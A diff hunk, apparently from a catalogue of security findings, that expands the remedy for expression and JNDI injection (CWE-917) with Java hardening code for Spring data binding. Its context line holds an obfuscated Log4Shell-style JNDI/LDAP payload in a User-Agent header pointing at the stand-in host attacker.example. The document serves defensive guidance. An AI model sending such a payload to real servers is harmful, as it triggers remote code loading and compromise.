@@ -117,7 +117,14 @@ User-Agent: ${${lower:j}ndi:${lower:l}dap://attacker.example/a}
     remedy="""\
 Keep Log4j (2.17.1 or later), Struts and Spring up to date, everywhere that your requests' values
 arrive: log shippers and search clusters too. Never evaluate an expression that holds a caller's
-value. Let such servers open no connections outwards, so that nothing can be fetched.""",
+value; where people may write expressions, leave them no classes, and leave forms only their fields:
+
+```java
+var context = SimpleEvaluationContext.forReadOnlyDataBinding().build();  // no T(…), no constructors
+binder.setAllowedFields("name", "email");                                // in an @InitBinder method
+```
+
+Let such servers open no connections outwards, so that nothing can be fetched.""",
     owasp="API8:2023",
     cwe=917,
     references=(
